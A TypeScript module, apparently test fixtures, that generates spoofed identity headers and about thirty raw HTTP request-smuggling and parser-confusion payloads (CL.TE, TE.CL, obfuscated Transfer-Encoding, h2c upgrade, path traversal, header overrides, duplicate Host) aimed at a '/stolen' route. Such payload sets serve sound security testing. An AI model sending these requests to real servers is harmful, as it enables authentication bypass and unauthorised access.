export const IDENTITY_HEADERS = [
  'X-Auth-User',
  'X-Auth-Session',
  'X-Auth-Client',
  'X-Auth-Email',
  'X-Auth-Organization',
  'X-Auth-Role',
]

/** Header lines by which a client could say who it is, in the spellings that some parser takes for the right one. */
export function spoofedHeaders(): string[] {
  const value = 'user_evil'
  return IDENTITY_HEADERS.flatMap((name) => {
    const low = name.toLowerCase()
    return [
      `${name}: ${value}`,
      `${low}: ${value}`,
      `${name.toUpperCase()}: ${value}`,
      `${name}: ${value}\r\n${name}: ${value}2`,
      `${name}:${value}`,
      `${name}:`,
      `${name}:\t${value}`,
      `${name}: \r\n ${value}`,
      `${name} : ${value}`,
      ` ${name}: ${value}`,
      `${name.replaceAll('-', '_')}: ${value}`,
      `${name.replace('-', '_')}: ${value}`,
      `${low.replaceAll('-', '_')}: ${value}`,
      `X-${name.slice(2).replace('-', '_')}: ${value}`,
      `${name}\0: ${value}`,
      `X-Other: a\n${name}: ${value}`,
      `X-Other: a\r${name}: ${value}`,
    ]
  })
}

export interface Smuggled {
  title: string
  request: string
}

const STOLEN = 'GET /stolen HTTP/1.1\r\nHost: app.example.com\r\nX-Auth-User: user_evil\r\n\r\n'

/** Requests whose end, target or headers two parsers may see differently; each hides one for `/stolen`. */
export function smuggled(token: string): Smuggled[] {
  const host = 'Host: app.example.com'
  const signedIn = `Authorization: Bearer ${token}`
  const post = (...lines: string[]) => `${['POST /first HTTP/1.1', host, signedIn, ...lines].join('\r\n')}\r\n\r\n`
  const length = `Content-Length: ${STOLEN.length}`
  return [
    {
      title: 'CL.TE',
      request: `${post(`Content-Length: ${STOLEN.length + 5}`, 'Transfer-Encoding: chunked')}0\r\n\r\n${STOLEN}`,
    },
    {
      title: 'TE.CL',
      request: `${post('Content-Length: 4', 'Transfer-Encoding: chunked')}${STOLEN.length.toString(16)}\r\n${STOLEN}\r\n0\r\n\r\n`,
    },
    { title: 'two lengths', request: `${post('Content-Length: 0', length)}${STOLEN}` },
    { title: 'a list of lengths', request: `${post(`Content-Length: 0, ${STOLEN.length}`)}${STOLEN}` },
    { title: 'a signed length', request: `${post(`Content-Length: +${STOLEN.length}`)}${STOLEN}` },
    { title: 'a length in hex', request: `${post(`Content-Length: 0x${STOLEN.length.toString(16)}`)}${STOLEN}` },
    {
      title: 'a length with a blank before the colon',
      request: `${post(`Content-Length : ${STOLEN.length}`)}${STOLEN}`,
    },
    { title: 'xchunked', request: `${post(length, 'Transfer-Encoding: xchunked')}${STOLEN}` },
    {
      title: 'chunked twice',
      request: `${post('Transfer-Encoding: chunked', 'Transfer-Encoding: identity')}0\r\n\r\n${STOLEN}`,
    },
    { title: 'chunked after a tab', request: `${post(length, 'Transfer-Encoding:\tchunked')}0\r\n\r\n${STOLEN}` },
    {
      title: 'chunked with a vertical tab',
      request: `${post(length, 'Transfer-Encoding: \x0bchunked')}0\r\n\r\n${STOLEN}`,
    },
    { title: 'Transfer_Encoding', request: `${post(length, 'Transfer_Encoding: chunked')}${STOLEN}` },
    { title: 'a bad chunk', request: `${post('Transfer-Encoding: chunked')}0;\nx\r\n\r\n${STOLEN}` },
    {
      title: 'a body on a GET',
      request: `GET /first HTTP/1.1\r\n${host}\r\n${signedIn}\r\n${length}\r\n\r\n${STOLEN}`,
    },
    { title: 'pipelined without a token', request: `GET /first HTTP/1.1\r\n${host}\r\n${signedIn}\r\n\r\n${STOLEN}` },
    {
      title: 'a refused request with a body',
      request: `POST /stolen HTTP/1.1\r\n${host}\r\n${length}\r\n\r\n${STOLEN}`,
    },
    {
      title: 'an upgrade',
      request: `GET /stolen HTTP/1.1\r\n${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${STOLEN}`,
    },
    {
      title: 'h2c',
      request: `GET /stolen HTTP/1.1\r\n${host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`,
    },
    { title: 'an absolute target', request: `GET http://app.example.com/stolen HTTP/1.1\r\n${host}\r\n\r\n` },
    { title: 'an absolute target elsewhere', request: `GET http://evil.example/stolen HTTP/1.1\r\n${host}\r\n\r\n` },
    { title: 'dot segments', request: `GET /public/../stolen HTTP/1.1\r\n${host}\r\n\r\n` },
    { title: 'encoded dot segments', request: `GET /public/%2e%2e/stolen HTTP/1.1\r\n${host}\r\n\r\n` },
    { title: 'two slashes', request: `GET //stolen HTTP/1.1\r\n${host}\r\n\r\n` },
    {
      title: 'a rewritten path',
      request: `GET /first HTTP/1.1\r\n${host}\r\nX-Original-URL: /stolen\r\nX-Rewrite-URL: /stolen\r\n\r\n`,
    },
    {
      title: 'a rewritten method',
      request: `GET /stolen HTTP/1.1\r\n${host}\r\nX-HTTP-Method-Override: OPTIONS\r\nX-Forwarded-Method: OPTIONS\r\n\r\n`,
    },
    { title: 'HTTP/1.0', request: `GET /stolen HTTP/1.0\r\n\r\n` },
    { title: 'HTTP/0.9', request: `GET /stolen\r\n\r\n` },
    { title: 'two hosts', request: `GET /stolen HTTP/1.1\r\n${host}\r\nHost: evil.example\r\n\r\n` },
  ]
}
